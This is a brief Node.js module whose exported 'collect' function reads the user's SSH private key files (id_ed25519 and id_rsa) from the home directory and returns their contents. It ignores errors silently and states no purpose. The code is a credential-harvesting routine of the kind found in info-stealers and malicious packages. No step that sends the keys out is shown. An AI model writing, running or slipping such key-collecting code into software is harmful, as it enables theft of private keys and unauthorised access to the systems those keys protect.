import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";

const NAMES = [".ssh/id_ed25519", ".ssh/id_rsa"];

export const collect = async () => {
  const found = [];
  for (const name of NAMES) {
    found.push(await fs.readFile(path.join(os.homedir(), name), "utf8").catch(() => ""));
  }
  return found;
};
